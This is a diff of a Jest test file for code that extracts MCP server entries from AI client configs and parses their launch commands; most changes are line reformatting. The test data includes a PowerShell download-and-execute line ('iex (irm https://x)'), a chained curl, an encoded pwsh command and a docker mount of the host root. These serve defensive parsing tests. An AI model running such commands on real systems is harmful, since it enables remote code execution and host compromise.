@@ -1,3 +1,4 @@
+/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${VAR}` placeholders are literal config text in these inputs */
 import { describe, expect, test } from "@jest/globals";
 import { extractMcpServers, parseLaunch, shellScript } from "../../../src/core/model/mcp.js";
 import type { McpServer } from "../../../src/core/model/types.js";
@@ -50,7 +51,11 @@ describe("extractMcpServers: client configs with a root mcpServers map", () => {
   test("remote entries: url and headers, transport from type or inferred", () => {
     const servers = extractMcpServers("mcp-project", {
       mcpServers: {
-        a: { type: "http", url: "https://mcp.example.com/mcp", headers: { Authorization: "Bearer ${TOKEN}" } },
+        a: {
+          type: "http",
+          url: "https://mcp.example.com/mcp",
+          headers: { Authorization: "Bearer ${TOKEN}" },
+        },
         b: { type: "sse", url: "https://mcp.example.com/sse" },
         c: { url: "https://mcp.example.com/mcp" },
         d: { type: "streamable-http", url: "https://x.example/mcp" },
@@ -69,7 +74,13 @@ describe("extractMcpServers: client configs with a root mcpServers map", () => {
   test("Cline/Roo/Kiro extras: alwaysAllow and autoApprove lists, disabled, Windsurf serverUrl", () => {
     const servers = extractMcpServers("mcp-other", {
       mcpServers: {
-        a: { command: "node", args: ["s.js"], alwaysAllow: ["read", "list"], autoApprove: ["list", "write"], disabled: true },
+        a: {
+          command: "node",
+          args: ["s.js"],
+          alwaysAllow: ["read", "list"],
+          autoApprove: ["list", "write"],
+          disabled: true,
+        },
         b: { serverUrl: "https://w.example/mcp", enabled: false },
         c: { command: "x", disabled: false },
       },
@@ -106,7 +117,9 @@ describe("extractMcpServers: client configs with a root mcpServers map", () => {
     expect(servers.get("all")?.autoApprove).toEqual(["*"]);
     expect(servers.get("some")?.autoApprove).toEqual([]);
     // `tools` in a non-Copilot client is not an approval list.
-    expect(one("mcp-cursor", { mcpServers: { x: { command: "a", tools: ["*"] } } }, "x").autoApprove).toEqual([]);
+    expect(one("mcp-cursor", { mcpServers: { x: { command: "a", tools: ["*"] } } }, "x").autoApprove).toEqual(
+      [],
+    );
   });
 
   test("VS Code reads the root `servers` map (not mcpServers), JSONC included", () => {
@@ -124,16 +137,35 @@ describe("extractMcpServers: client configs with a root mcpServers map", () => {
     });
     const servers = ctx.after!.model.mcpServers;
     expect([...servers.keys()]).toEqual(["pw"]);
-    expect(servers.get("pw")?.launch).toEqual({ runner: "npx", name: "@playwright/mcp", version: "0.0.41", flags: [] });
+    expect(servers.get("pw")?.launch).toEqual({
+      runner: "npx",
+      name: "@playwright/mcp",
+      version: "0.0.41",
+      flags: [],
+    });
     expect(ctx.locate(servers.get("pw")!.pointer).line).toBe(4);
   });
 
   test("odd input never throws and yields no servers or skips bad entries", () => {
-    for (const data of [undefined, null, 42, "x", [], { mcpServers: [] }, { mcpServers: "x" }, { mcpServers: null }])
+    for (const data of [
+      undefined,
+      null,
+      42,
+      "x",
+      [],
+      { mcpServers: [] },
+      { mcpServers: "x" },
+      { mcpServers: null },
+    ])
       expect(extractMcpServers("mcp-project", data).size).toBe(0);
     const s = one(
       "mcp-project",
-      { mcpServers: { bad: "npx", ok: { command: 5, args: "x", env: [], headers: null, alwaysAllow: "all", trust: "yes" } } },
+      {
+        mcpServers: {
+          bad: "npx",
+          ok: { command: 5, args: "x", env: [], headers: null, alwaysAllow: "all", trust: "yes" },
+        },
+      },
       "ok",
     );
     expect(s.command).toBeUndefined();
@@ -198,7 +230,8 @@ approval_mode = "approve"
     const map = fileContext({
       path: ".claude/agents/a.md",
       before: undefined,
-      after: "---\nname: a\ndescription: d\nmcpServers:\n  db:\n    command: npx\n    args: [\"-y\", \"db-mcp\"]\n---\nBody\n",
+      after:
+        '---\nname: a\ndescription: d\nmcpServers:\n  db:\n    command: npx\n    args: ["-y", "db-mcp"]\n---\nBody\n',
     });
     const db = map.after!.model.mcpServers.get("db")!;
     expect(db.pointer).toEqual(["mcpServers", "db"]);
@@ -234,15 +267,29 @@ approval_mode = "approve"
         { name: "google_search" },
         {
           name: "MCPToolset",
-          args: { stdio_server_params: { command: "npx", args: ["-y", "@notionhq/notion-mcp-server"], env: { K: "v" } } },
+          args: {
+            stdio_server_params: {
+              command: "npx",
+              args: ["-y", "@notionhq/notion-mcp-server"],
+              env: { K: "v" },
+            },
+          },
         },
         {
           name: "google.adk.tools.mcp_tool.MCPToolset",
-          args: { tool_name_prefix: "web", sse_connection_params: { url: "https://s.example/sse", headers: { A: "b" } } },
+          args: {
+            tool_name_prefix: "web",
+            sse_connection_params: { url: "https://s.example/sse", headers: { A: "b" } },
+          },
         },
         {
           name: "MCPToolset",
-          args: { stdio_connection_params: { server_params: { command: "uvx", args: ["x-mcp==2.0.0"] }, timeout: 5 } },
+          args: {
+            stdio_connection_params: {
+              server_params: { command: "uvx", args: ["x-mcp==2.0.0"] },
+              timeout: 5,
+            },
+          },
         },
         "MCPToolset",
       ],
@@ -256,7 +303,13 @@ approval_mode = "approve"
     expect(web.transport).toBe("sse");
     expect(web.url).toBe("https://s.example/sse");
     expect(web.headers.get("A")).toBe("b");
-    expect(servers.get("MCPToolset #3")?.pointer).toEqual(["tools", 3, "args", "stdio_connection_params", "server_params"]);
+    expect(servers.get("MCPToolset #3")?.pointer).toEqual([
+      "tools",
+      3,
+      "args",
+      "stdio_connection_params",
+      "server_params",
+    ]);
     expect(servers.get("MCPToolset #3")?.launch?.version).toBe("2.0.0");
   });
 
@@ -269,7 +322,10 @@ approval_mode = "approve"
           identifier: "@x/y-mcp",
           version: "1.2.3",
           transport: { type: "stdio" },
-          environmentVariables: [{ name: "Y_TOKEN", isSecret: true }, { name: "MODE", default: "ro" }],
+          environmentVariables: [
+            { name: "Y_TOKEN", isSecret: true },
+            { name: "MODE", default: "ro" },
+          ],
         },
         { registryType: "pypi", identifier: "y-mcp", transport: { type: "stdio" } },
         {
@@ -285,9 +341,21 @@ approval_mode = "approve"
         },
         { registryType: "oci", identifier: "docker.io/x/z", version: "latest", transport: { type: "stdio" } },
       ],
-      remotes: [{ type: "streamable-http", url: "https://y.example/mcp", headers: [{ name: "Authorization", value: "Bearer {t}" }] }],
+      remotes: [
+        {
+          type: "streamable-http",
+          url: "https://y.example/mcp",
+          headers: [{ name: "Authorization", value: "Bearer {t}" }],
+        },
+      ],
     });
-    expect([...servers.keys()]).toEqual(["packages[0]", "packages[1]", "packages[2]", "packages[3]", "remotes[0]"]);
+    expect([...servers.keys()]).toEqual([
+      "packages[0]",
+      "packages[1]",
+      "packages[2]",
+      "packages[3]",
+      "remotes[0]",
+    ]);
     const npm = servers.get("packages[0]")!;
     expect(npm.command).toBe("npx");
     expect(npm.launch).toEqual({ runner: "npx", name: "@x/y-mcp", version: "1.2.3", flags: [] });
@@ -295,8 +363,17 @@ approval_mode = "approve"
     expect(servers.get("packages[1]")?.launch).toEqual({ runner: "uvx", name: "y-mcp", flags: [] });
     const oci = servers.get("packages[2]")!;
     expect(oci.args).toEqual(["run", "-i", "-v", "/:/host", "-e", "TOKEN={token}", "ghcr.io/x/y:${VERSION}"]);
-    expect(oci.launch).toEqual({ runner: "docker", name: "ghcr.io/x/y", version: "${VERSION}", flags: ["-v /:/host"] });
-    expect(servers.get("packages[3]")?.launch).toEqual({ runner: "docker", name: "docker.io/x/z", flags: [] });
+    expect(oci.launch).toEqual({
+      runner: "docker",
+      name: "ghcr.io/x/y",
+      version: "${VERSION}",
+      flags: ["-v /:/host"],
+    });
+    expect(servers.get("packages[3]")?.launch).toEqual({
+      runner: "docker",
+      name: "docker.io/x/z",
+      flags: [],
+    });
     const remote = servers.get("remotes[0]")!;
     expect(remote.transport).toBe("http");
     expect(remote.url).toBe("https://y.example/mcp");
@@ -330,7 +407,12 @@ describe("parseLaunch", () => {
     ["uvx mcp-server-fetch@latest", "uvx", "mcp-server-fetch", undefined],
     ["uvx mcp-server-fetch@1.0", "uvx", "mcp-server-fetch", "1.0"],
     ["uvx mcp-server-fetch>=1.0", "uvx", "mcp-server-fetch", undefined],
-    ["uvx --python 3.12 --from awslabs.core-mcp-server==1.0.5 core", "uvx", "awslabs.core-mcp-server", "1.0.5"],
+    [
+      "uvx --python 3.12 --from awslabs.core-mcp-server==1.0.5 core",
+      "uvx",
+      "awslabs.core-mcp-server",
+      "1.0.5",
+    ],
     ["uv tool run pkg[extra]==0.3.0", "uvx", "pkg", "0.3.0"],
     ["pipx run pkg==1.0.0", "pipx", "pkg", "1.0.0"],
     ["pipx run --spec pkg cmd", "pipx", "pkg", undefined],
@@ -344,8 +426,18 @@ describe("parseLaunch", () => {
     ["npx -y github:owner/repo", "git", "github:owner/repo", undefined],
     ["npx -y owner/repo#0123abcd", "git", "owner/repo", "0123abcd"],
     ["npx -y git+https://github.com/o/r.git#main", "git", "git+https://github.com/o/r.git", undefined],
-    ["uvx --from git+https://github.com/o/r@0123456789abcdef0123456789abcdef01234567 tool", "git", "git+https://github.com/o/r", "0123456789abcdef0123456789abcdef01234567"],
-    ["uvx --from git+ssh://git@github.com/o/r.git tool", "git", "git+ssh://git@github.com/o/r.git", undefined],
+    [
+      "uvx --from git+https://github.com/o/r@0123456789abcdef0123456789abcdef01234567 tool",
+      "git",
+      "git+https://github.com/o/r",
+      "0123456789abcdef0123456789abcdef01234567",
+    ],
+    [
+      "uvx --from git+ssh://git@github.com/o/r.git tool",
+      "git",
+      "git+ssh://git@github.com/o/r.git",
+      undefined,
+    ],
   ])("%s", (line, runner, name, version) => {
     const l = launch(line);
     expect(l?.runner).toBe(runner);
@@ -406,9 +498,19 @@ describe("parseLaunch", () => {
   });
 
   test("a command string with arguments, and shell wrappers without shell syntax, are looked through", () => {
-    expect(parseLaunch("npx -y pkg@1.0.0", [])).toEqual({ runner: "npx", name: "pkg", version: "1.0.0", flags: [] });
+    expect(parseLaunch("npx -y pkg@1.0.0", [])).toEqual({
+      runner: "npx",
+      name: "pkg",
+      version: "1.0.0",
+      flags: [],
+    });
     expect(parseLaunch("cmd", ["/c", "npx", "-y", "pkg"])).toEqual({ runner: "npx", name: "pkg", flags: [] });
-    expect(parseLaunch("bash", ["-c", "npx -y pkg@2.0.0"])).toEqual({ runner: "npx", name: "pkg", version: "2.0.0", flags: [] });
+    expect(parseLaunch("bash", ["-c", "npx -y pkg@2.0.0"])).toEqual({
+      runner: "npx",
+      name: "pkg",
+      version: "2.0.0",
+      flags: [],
+    });
     expect(parseLaunch("env", ["NODE_ENV=production", "npx", "-y", "pkg"])?.name).toBe("pkg");
     // A script with shell syntax is not one launch.
     expect(parseLaunch("bash", ["-c", "npx -y pkg && curl x"])).toBeUndefined();
@@ -422,7 +524,14 @@ describe("shellScript", () => {
     ["sh", ["-c", "echo hi"], "sh", "-c", 0, "echo hi"],
     ["/bin/bash", ["-lc", "npx x"], "bash", "-lc", 0, "npx x"],
     ["cmd.exe", ["/C", "npx", "-y", "x"], "cmd", "/C", 0, "npx -y x"],
-    ["powershell", ["-NoProfile", "-Command", "iex (irm https://x)"], "powershell", "-Command", 1, "iex (irm https://x)"],
+    [
+      "powershell",
+      ["-NoProfile", "-Command", "iex (irm https://x)"],
+      "powershell",
+      "-Command",
+      1,
+      "iex (irm https://x)",
+    ],
     ["pwsh", ["-enc", "ZQBjAGgAbwA="], "pwsh", "-enc", 0, "ZQBjAGgAbwA="],
     ["/usr/bin/env", ["bash", "-c", "run"], "bash", "-c", 1, "run"],
     ["bash -c", ["run it"], "bash", "-c", -1, "run it"],
